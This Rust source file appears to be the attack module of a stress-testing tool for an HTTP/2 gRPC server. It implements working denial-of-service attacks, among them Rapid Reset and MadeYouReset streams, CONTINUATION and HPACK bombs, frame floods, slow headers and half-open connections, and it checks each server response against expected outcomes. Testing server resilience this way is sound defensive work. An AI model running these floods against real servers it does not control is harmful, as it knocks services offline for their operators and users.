//! The attacks. Each runs on one or more connections until its time is over. When the server closes
//! a connection, the attacker opens another one.

use std::{
    cell::{Cell, RefCell},
    collections::BTreeSet,
    io,
    net::SocketAddr,
    rc::Rc,
    time::Duration,
};

use clap::ValueEnum;
use tokio::{
    io::Interest,
    net::TcpStream,
    task::LocalSet,
    time::{Instant, sleep, timeout, timeout_at},
};

use crate::{
    connection::{Connection, Event, Source, closed, dial},
    process::PATIENCE,
    requests::{self, Case},
    seen::{CLOSED, FITS, STREAMS, Seen, WRONG},
    wire::{
        FIND, FIND_RANGE, FRAME_LEN, Frames, NEWEST_KEPT, PREFACE, WINDOW_MAX, call,
        endless_search, flag, kept, kind, literal,
    },
};

/// Number of frames that a flood sends in one write.
const BATCH: usize = 200;

/// Number of streams that a paced attack opens together. It waits until the server has read or
/// answered them before it continues.
const PACE: usize = 10;

/// The gRPC status code RESOURCE_EXHAUSTED.
const RESOURCE_EXHAUSTED: u16 = 8;

/// How often an attack whose time is over checks whether it has seen evidence that it was an
/// attack.
const LOOK: Duration = Duration::from_millis(50);

/// Time before an attacker reopens a connection that has ended. With more than `MANY` connections,
/// it waits for `AGAIN_OF_MANY`: faster reconnects would be a different attack.
const AGAIN: Duration = Duration::from_millis(20);
const AGAIN_OF_MANY: Duration = Duration::from_secs(5);

/// An attack with more connections than this waits longer before it reconnects.
const MANY: usize = 100;

/// Maximum number of connections that are being opened at a time, so that the backlog of the
/// server's socket does not affect the attack.
const DIALS: usize = 64;

/// An attack on the server.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// Streams that are opened and reset in the same write, hundreds at once
    RapidReset,
    /// Searches that are started, ten at a time, and reset once the server has read them
    RapidResetPaced,
    /// Searches that the server itself has to reset, because a window overflows
    MadeYouResetWindow,
    /// The same, because a window update has an increment of zero
    MadeYouResetZero,
    /// The same, because DATA or HEADERS follow the end of the stream
    MadeYouResetLate,
    /// The same, because a stream depends on itself
    MadeYouResetPriority,
    /// The same, because requests are longer than they declare
    MadeYouResetLength,
    /// A header block that never ends
    ContinuationFlood,
    /// One mebibyte of headers, repeatedly
    HeaderBomb,
    /// Thousands of long headers, each encoded in one byte
    HpackBomb,
    /// Requests that begin with hundreds of headers and never end
    ManyHeaders,
    /// PING frames
    PingFlood,
    /// PING frames whose responses are not read
    PingFloodUnread,
    /// SETTINGS frames
    SettingsFlood,
    /// PRIORITY frames
    PriorityFlood,
    /// WINDOW_UPDATE frames
    WindowUpdateFlood,
    /// Empty DATA frames
    EmptyDataFlood,
    /// Frames of an unknown type
    UnknownFrameFlood,
    /// Messages that declare 3 MiB or 4 GiB and contain at most one byte
    LengthBomb,
    /// Calls that are rejected and whose responses are not read
    UnreadAnswers,
    /// Requests that send one byte per second and never end
    EndlessRequests,
    /// Messages that are invalid, missing, compressed, truncated or too long
    MalformedMessages,
    /// Content types and methods other than gRPC's, and other wrong headers
    WrongRequests,
    /// Invalid and extreme values of grpc-timeout
    BadTimeouts,
    /// Unknown paths
    BadPaths,
    /// Connections that send nothing
    SilentConnections,
    /// Connections that stop after the preface, after the settings, or within a frame
    HalfOpenConnections,
    /// Headers that arrive one byte every 250 ms
    SlowHeaders,
    /// Requests that begin and never end, a thousand per connection
    OpenStreams,
    /// Searches, a thousand per connection
    FindRanges,
    /// Searches with many candidates and a zero flow-control window; PINGs are answered
    ZeroWindowReaders,
    /// Calls that watch the server's health, a thousand per connection
    HealthWatches,
    /// Connections that send one request and are closed at once
    ConnectionChurn,
    /// Bytes that are not HTTP/2, or frames with invalid lengths
    Garbage,
}

/// How many connections an attack has.
pub(crate) struct Plan {
    /// The long form runs the attack once with each of these numbers of connections.
    pub(crate) connections: &'static [usize],
    pub(crate) short: usize,
}

impl Attack {
    pub(crate) fn name(self) -> String {
        let value = self.to_possible_value();
        value.map_or_else(String::new, |value| value.get_name().to_owned())
    }

    pub(crate) fn plan(self) -> Plan {
        use Attack::*;
        let (connections, short): (&[usize], usize) = match self {
            RapidReset | RapidResetPaced | MadeYouResetWindow | MadeYouResetZero
            | MadeYouResetLate | MadeYouResetPriority | MadeYouResetLength => (&[1, 50], 4),
            ContinuationFlood | HeaderBomb | HpackBomb | PingFlood | PingFloodUnread
            | SettingsFlood | PriorityFlood | WindowUpdateFlood | EmptyDataFlood
            | UnknownFrameFlood | LengthBomb | ManyHeaders | UnreadAnswers => (&[20], 4),
            MalformedMessages | WrongRequests | BadTimeouts | BadPaths => (&[4], 1),
            SilentConnections => (&[10_000], 500),
            HalfOpenConnections | SlowHeaders => (&[2_000], 200),
            EndlessRequests | OpenStreams | FindRanges | ZeroWindowReaders | HealthWatches => {
                (&[20], 4)
            }
            ConnectionChurn | Garbage => (&[20], 4),
        };
        Plan { connections, short }
    }

    /// Returns the size of the socket's receive buffer in bytes, or `None` for the system's
    /// default.
    fn room(self) -> Option<u32> {
        (self == Attack::UnreadAnswers).then_some(4096)
    }

    /// Returns a message for each expectation that `seen` does not meet: that the attack took
    /// place, and that the server answered it correctly.
    pub(crate) fn failures(self, seen: &Seen) -> Vec<String> {
        use Attack::*;
        let mut failures: Vec<String> = seen
            .beginning(WRONG)
            .map(|(what, times)| format!("{times} times {what}"))
            .collect();
        let mut expect = |is_so: bool, what: &str| {
            if !is_so {
                failures.push(format!("{what}; the attacker saw {}", seen.to_json()));
            }
        };
        match self {
            ContinuationFlood | HeaderBomb | HpackBomb | ManyHeaders => {
                let ended =
                    seen.count(CLOSED) + seen.count_all("HTTP 4") + seen.count_all("reset ");
                expect(ended > 0, "expected overlong headers to be rejected");
            }
            RapidReset | RapidResetPaced | MadeYouResetWindow | MadeYouResetZero
            | MadeYouResetLate | MadeYouResetPriority | MadeYouResetLength | LengthBomb
            | UnreadAnswers | FindRanges | OpenStreams | ZeroWindowReaders | EndlessRequests
            | HealthWatches | EmptyDataFlood | MalformedMessages | WrongRequests | BadTimeouts
            | BadPaths => {
                expect(seen.count(STREAMS) > 0, "expected at least one stream");
            }
            Garbage => expect(
                seen.count(CLOSED) > 0,
                "expected connections without HTTP/2 to be closed",
            ),
            _ => expect(
                seen.count("connections") > 0,
                "expected at least one connection",
            ),
        }
        match self {
            LengthBomb => expect(
                seen.count("grpc-status 8") + seen.count(CLOSED) + seen.count_all("reset ") > 0,
                "expected RESOURCE_EXHAUSTED (8) for a message of gigabytes, or a closed connection",
            ),
            MalformedMessages | WrongRequests | BadTimeouts | BadPaths => {
                expect(
                    seen.count_all(FITS) > 0,
                    "expected at least one correct response",
                );
            }
            _ => {}
        }
        failures
    }

    /// Whether every connection begins with a valid preface.
    fn speaks(self) -> bool {
        use Attack::*;
        !matches!(
            self,
            SilentConnections | HalfOpenConnections | SlowHeaders | ConnectionChurn | Garbage
        )
    }
}

/// Runs an attack until `over` is ready, and returns what the attacker saw. With `once`, streams
/// that the attack holds open are not replaced when they end.
///
/// On a busy machine, an attack may have done nothing yet when it should end. It then continues
/// until it has seen evidence that it was an attack, at most for [`PATIENCE`].
///
/// Dropping the future ends the attack and resets its connections.
pub(crate) async fn play(
    attack: Attack,
    target: SocketAddr,
    source: Source,
    connections: usize,
    over: impl Future<Output = ()>,
    once: bool,
) -> Seen {
    let seen = Rc::new(RefCell::new(Seen::default()));
    let dials = Rc::new(tokio::sync::Semaphore::new(DIALS));
    let again = if connections > MANY {
        AGAIN_OF_MANY
    } else {
        AGAIN
    };
    let all = LocalSet::new();
    for number in 0..connections {
        let (seen, dials) = (Rc::clone(&seen), Rc::clone(&dials));
        all.spawn_local(async move {
            let turn = Cell::new(0);
            loop {
                let socket = {
                    let _permit = dials.acquire().await;
                    dial(target, source, number, attack.room(), &seen).await
                };
                if let Ok(socket) = socket {
                    let played = if attack.speaks() {
                        speak(attack, socket, number, once, &turn, Rc::clone(&seen)).await
                    } else {
                        misbehave(attack, socket, number).await
                    };
                    if played.is_err() {
                        closed(&seen);
                    }
                }
                if attack == Attack::ConnectionChurn {
                    tokio::task::yield_now().await;
                } else {
                    sleep(again).await;
                }
            }
        });
    }
    all.run_until(async {
        over.await;
        let has_seen_enough = async {
            while !attack.failures(&seen.borrow()).is_empty() {
                sleep(LOOK).await;
            }
        };
        // The caller checks again, and reports expectations that are still not met.
        let _ = timeout(PATIENCE, has_seen_enough).await;
    })
    .await;
    // Ends the tasks, which share `seen`.
    drop(all);
    Rc::unwrap_or_clone(seen).into_inner()
}

/// Runs an attack over HTTP/2. `turn` is the index of the next wrong request. Ends with an error
/// when the server closes the connection.
async fn speak(
    attack: Attack,
    socket: TcpStream,
    number: usize,
    once: bool,
    turn: &Cell<usize>,
    seen: Rc<RefCell<Seen>>,
) -> io::Result<()> {
    use Attack::*;
    // A window of 0 stalls readers, and can be increased many times by WINDOW_UPDATE frames.
    let window = match attack {
        ZeroWindowReaders | WindowUpdateFlood => 0,
        _ => WINDOW_MAX,
    };
    let connection = &mut Connection::begin(socket, window, seen);
    let find = call(FIND);
    let search = endless_search(0);
    match attack {
        RapidReset => {
            while !connection.is_used_up() {
                for _ in 0..BATCH {
                    let stream = connection.open(&find, None, true);
                    connection.out.reset(stream);
                }
                connection.flood().await?;
            }
        }
        RapidResetPaced => {
            begin_and(connection, Frames::reset).await?;
        }
        MadeYouResetWindow => {
            let overflow = |frames: &mut Vec<u8>, stream| frames.window_update(stream, WINDOW_MAX);
            begin_and(connection, overflow).await?;
        }
        MadeYouResetZero => {
            begin_and(connection, |frames, stream| {
                frames.window_update(stream, 0);
            })
            .await?;
        }
        MadeYouResetLate => {
            let late = |frames: &mut Vec<u8>, stream| {
                if number.is_multiple_of(2) {
                    frames.data(stream, b"late", false);
                } else {
                    frames.headers(stream, &find, true);
                }
            };
            begin_and(connection, late).await?;
        }
        MadeYouResetPriority => {
            begin_and(connection, |frames, stream| {
                frames.priority(stream, stream);
            })
            .await?;
        }
        MadeYouResetLength => {
            let mut headers = find;
            literal(&mut headers, "content-length", "1");
            while !connection.is_used_up() {
                for _ in 0..BATCH {
                    connection.open(&headers, Some(&search), true);
                }
                connection.flood().await?;
            }
        }
        ContinuationFlood => {
            let stream = connection.next_stream();
            connection.out.frame(kind::HEADERS, 0, stream, &find);
            let mut some = Vec::new();
            // A short fragment costs as much to parse as a long one. A long one also takes memory.
            let length = if number.is_multiple_of(2) {
                4
            } else {
                FRAME_LEN - 100
            };
            literal(&mut some, "x", &"x".repeat(length));
            loop {
                for _ in 0..BATCH {
                    connection.out.frame(kind::CONTINUATION, 0, stream, &some);
                }
                connection.flood().await?;
            }
        }
        HeaderBomb => {
            let mut block = find;
            while block.len() < 1 << 20 {
                literal(&mut block, "x-bomb", &"x".repeat(1000));
            }
            loop {
                let stream = connection.next_stream();
                send_block(&mut connection.out, stream, &block);
                connection.flush().await?;
                let answer = connection.answer(stream, PATIENCE).await?;
                count(connection, &answer.to_string());
            }
        }
        HpackBomb => {
            let mut block = find.clone();
            kept(&mut block, "x", &"x".repeat(3900));
            connection.open(&block, None, true);
            loop {
                let mut bomb = find.clone();
                bomb.resize(FRAME_LEN, NEWEST_KEPT);
                let stream = connection.open(&bomb, None, true);
                connection.flush().await?;
                let answer = connection.answer(stream, PATIENCE).await?;
                count(connection, &answer.to_string());
            }
        }
        ManyHeaders => {
            let mut block = find;
            // As many as the server's limit on the size of headers allows.
            for _ in 0..480 {
                literal(&mut block, "x", "");
            }
            let begin = |connection: &mut Connection| connection.open(&block, None, false);
            hold(connection, 1000, once, begin, None).await?;
        }
        UnreadAnswers => loop {
            // Every path is different. The response repeats the beginning of the path.
            let method = connection.seen.borrow().count(STREAMS);
            let nowhere = call(&format!("/{}/{method}", "x".repeat(3000)));
            connection.open(&nowhere, None, true);
            connection.write_only().await?;
        },
        PingFlood => flood(connection, |frames| frames.ping(7)).await?,
        PingFloodUnread => loop {
            for _ in 0..BATCH {
                connection.out.ping(7);
            }
            connection.write_only().await?;
        },
        SettingsFlood => flood(connection, |frames| frames.settings(&[])).await?,
        PriorityFlood => flood(connection, |frames| frames.priority(9, 7)).await?,
        WindowUpdateFlood => {
            let stream = connection.open(&find, None, false);
            flood(connection, |frames| frames.window_update(stream, 1)).await?;
        }
        EmptyDataFlood => {
            let stream = connection.open(&find, None, false);
            flood(connection, |frames| frames.data(stream, &[], false)).await?;
        }
        UnknownFrameFlood => {
            flood(connection, |frames| frames.frame(kind::UNKNOWN, 0, 0, b"?")).await?;
        }
        LengthBomb => loop {
            let mut streams = Vec::new();
            for at in 0..PACE {
                let length: u32 = if at % 2 == 0 { u32::MAX } else { 3 << 20 };
                let stream = connection.open(&find, None, false);
                let mut prefix = vec![0];
                prefix.extend(length.to_be_bytes());
                // One byte of the declared message, or nothing.
                prefix.extend((at % 3 == 0).then_some(1));
                connection.out.data(stream, &prefix, false);
                streams.push(stream);
            }
            for answer in connection.answers(&streams, PATIENCE).await? {
                count(connection, &answer.to_string());
            }
        },
        EndlessRequests => {
            let begin = |connection: &mut Connection| {
                connection.open(&find, Some(&[0, 0, 0, 0, 100, 1]), false)
            };
            let trickle = |frames: &mut Vec<u8>, stream| frames.data(stream, &[1], false);
            hold(connection, 1000, once, begin, Some(&trickle)).await?;
        }
        OpenStreams => {
            let begin = |connection: &mut Connection| connection.open(&find, None, false);
            hold(connection, 1000, once, begin, None).await?;
        }
        FindRanges => {
            let range = call(FIND_RANGE);
            let begin = |connection: &mut Connection| connection.open(&range, Some(&search), true);
            hold(connection, 1000, once, begin, None).await?;
        }
        ZeroWindowReaders => {
            let range = call(FIND_RANGE);
            let many = endless_search(28);
            let begin = |connection: &mut Connection| connection.open(&range, Some(&many), true);
            hold(connection, 50, once, begin, None).await?;
        }
        HealthWatches => {
            let watch = call("/grpc.health.v1.Health/Watch");
            let begin = |connection: &mut Connection| connection.open(&watch, Some(&[0; 5]), true);
            hold(connection, 1000, once, begin, None).await?;
        }
        MalformedMessages => ask(connection, &requests::malformed_messages(), turn).await?,
        WrongRequests => ask(connection, &requests::wrong_requests(), turn).await?,
        BadTimeouts => ask(connection, &requests::bad_timeouts(), turn).await?,
        BadPaths => ask(connection, &requests::bad_paths(), turn).await?,
        SilentConnections | HalfOpenConnections | SlowHeaders | ConnectionChurn | Garbage => {}
    }
    Ok(())
}

/// Runs an attack that does not follow HTTP/2. Ends with an error when the server closes the
/// connection.
async fn misbehave(attack: Attack, socket: TcpStream, number: usize) -> io::Result<()> {
    use Attack::*;
    let mut hello = PREFACE.to_vec();
    hello.settings(&[]);
    let headers = call(FIND);
    match attack {
        HalfOpenConnections => {
            let mut begun = match number % 4 {
                0 => PREFACE.to_vec(),
                _ => hello,
            };
            match number % 4 {
                2 => begun.extend([0, 1]),
                3 => {
                    begun.head(FRAME_LEN, kind::HEADERS, flag::END_HEADERS, 1);
                    begun.extend(&headers[..10]);
                }
                _ => {}
            }
            write(&socket, &begun).await?;
        }
        SlowHeaders => {
            // Half of the connections send the preface and settings at once. The others are slow
            // from the first byte on.
            let begun = if number.is_multiple_of(2) {
                hello.len()
            } else {
                0
            };
            hello.headers(1, &headers, true);
            write(&socket, &hello[..begun]).await?;
            for byte in &hello[begun..] {
                write(&socket, &[*byte]).await?;
                let pause = Instant::now() + Duration::from_millis(250);
                if let Ok(ended) = timeout_at(pause, until_closed(&socket)).await {
                    return ended;
                }
            }
        }
        ConnectionChurn => {
            hello.headers(1, &headers, true);
            return write(&socket, &hello).await;
        }
        Garbage => {
            let begun = match number % 5 {
                0 => b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec(),
                // The beginning of a TLS handshake.
                1 => [&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3][..], &[7; 512]].concat(),
                2 => noise(65_536, number as u64),
                3 => {
                    let rest = noise(65_536, number as u64);
                    [&hello[..], &rest].concat()
                }
                _ => {
                    // A frame that declares the maximum length, or padding that is longer than its
                    // frame.
                    let mut begun = hello;
                    if number.is_multiple_of(2) {
                        begun.head(0xff_ffff, kind::DATA, 0, 1);
                    } else {
                        let flags = flag::END_HEADERS | flag::PADDED | flag::PRIORITY;
                        begun.frame(kind::HEADERS, flags, 1, &[255, 0, 0, 0, 0, 1]);
                    }
                    begun
                }
            };
            write(&socket, &begun).await?;
        }
        _ => {}
    }
    until_closed(&socket).await
}

/// Repeatedly requests a few searches, waits until the server has read the requests (and so has
/// started the searches), and calls `act` for each of their streams. Ends when the connection's
/// stream IDs are nearly used up.
async fn begin_and(connection: &mut Connection, act: impl Fn(&mut Vec<u8>, u32)) -> io::Result<()> {
    let (find, search) = (call(FIND), endless_search(0));
    while !connection.is_used_up() {
        let streams: Vec<u32> = (0..PACE)
            .map(|_| connection.open(&find, Some(&search), true))
            .collect();
        connection.until_read().await?;
        for stream in streams {
            act(&mut connection.out, stream);
        }
        connection.flood().await?;
    }
    Ok(())
}

async fn flood(connection: &mut Connection, frame: impl Fn(&mut Vec<u8>)) -> io::Result<()> {
    let mut batch = Vec::new();
    for _ in 0..BATCH {
        frame(&mut batch);
    }
    loop {
        connection.out.extend_from_slice(&batch);
        connection.flood().await?;
    }
}

/// Sends a header block in as many frames as it needs.
fn send_block(frames: &mut Vec<u8>, stream: u32, block: &[u8]) {
    let mut chunks = block.chunks(FRAME_LEN).peekable();
    let mut kind = kind::HEADERS;
    while let Some(chunk) = chunks.next() {
        let last = if chunks.peek().is_none() {
            flag::END_HEADERS
        } else {
            0
        };
        let end = if kind == kind::HEADERS {
            flag::END_STREAM
        } else {
            0
        };
        frames.frame(kind, last | end, stream, chunk);
        kind = kind::CONTINUATION;
    }
}

/// Appends the next bytes of an open stream.
type Trickle<'a> = &'a dyn Fn(&mut Vec<u8>, u32);

/// Keeps `streams` streams open. Each second, it replaces streams that have ended (except with
/// `once`), and calls `trickle`, if given, for each open stream.
async fn hold(
    connection: &mut Connection,
    streams: usize,
    once: bool,
    begin: impl Fn(&mut Connection) -> u32,
    trickle: Option<Trickle<'_>>,
) -> io::Result<()> {
    let mut open = BTreeSet::new();
    let mut is_begun = false;
    loop {
        while open.len() < streams && !connection.is_used_up() && !(is_begun && once) {
            open.insert(begin(connection));
        }
        is_begun = true;
        let second = Instant::now() + Duration::from_secs(1);
        let read = async {
            connection.flush().await?;
            loop {
                match connection.next().await? {
                    Event::Headers {
                        stream,
                        fields,
                        end,
                    } => {
                        let mut answer = crate::connection::Answer::default();
                        answer.take(&fields);
                        if end || answer.grpc.is_some() {
                            open.remove(&stream);
                            count(connection, &answer.to_string());
                        }
                    }
                    Event::Data { stream, end: true } | Event::Reset { stream, .. } => {
                        open.remove(&stream);
                    }
                    _ => {}
                }
            }
        };
        let read: Result<io::Result<()>, _> = timeout_at(second, read).await;
        if let Ok(ended) = read {
            return ended;
        }
        if let Some(trickle) = trickle {
            for stream in &open {
                trickle(&mut connection.out, *stream);
            }
        }
    }
}

/// Sends wrong requests, one after another, and checks the responses. A closed connection is also a
/// valid response; the next connection continues with the next case.
async fn ask(connection: &mut Connection, cases: &[Case], turn: &Cell<usize>) -> io::Result<()> {
    loop {
        let case = &cases[turn.get() % cases.len()];
        turn.set(turn.get() + 1);
        let stream = connection.next_stream();
        let ends = case.body.is_none();
        connection.out.headers(stream, &case.headers, ends);
        if let Some(body) = &case.body {
            connection.out.data(stream, body, true);
        }
        let answered = connection.answer(stream, PATIENCE).await;
        let (name, expected) = (&case.name, case.expected);
        let result = match &answered {
            Ok(answer) if (case.fits)(answer) => format!("{FITS}{name}: {answer}"),
            // The attack has exceeded the rate limit of its address.
            Ok(answer) if answer.grpc == Some(RESOURCE_EXHAUSTED) => answer.to_string(),
            Ok(answer) => format!("{WRONG}{name}: expected {expected}, saw {answer}"),
            Err(_) => format!("{FITS}{name}: the connection's end"),
        };
        count(connection, &result);
        answered?;
        tokio::task::yield_now().await;
    }
}

fn count(connection: &Connection, what: &str) {
    connection.seen.borrow_mut().add(what, 1);
}

async fn write(socket: &TcpStream, mut bytes: &[u8]) -> io::Result<()> {
    while !bytes.is_empty() {
        socket.writable().await?;
        match socket.try_write(bytes) {
            Ok(written) => bytes = &bytes[written..],
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// Reads until the server closes the socket. Always returns an error.
async fn until_closed(socket: &TcpStream) -> io::Result<()> {
    let mut sink = [0; 4096];
    loop {
        socket.ready(Interest::READABLE).await?;
        match socket.try_read(&mut sink) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
    }
}

/// Returns pseudorandom bytes, the same for the same seed.
fn noise(length: usize, seed: u64) -> Vec<u8> {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let bytes = std::iter::repeat_with(|| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()
    });
    bytes.flatten().take(length).collect()
}
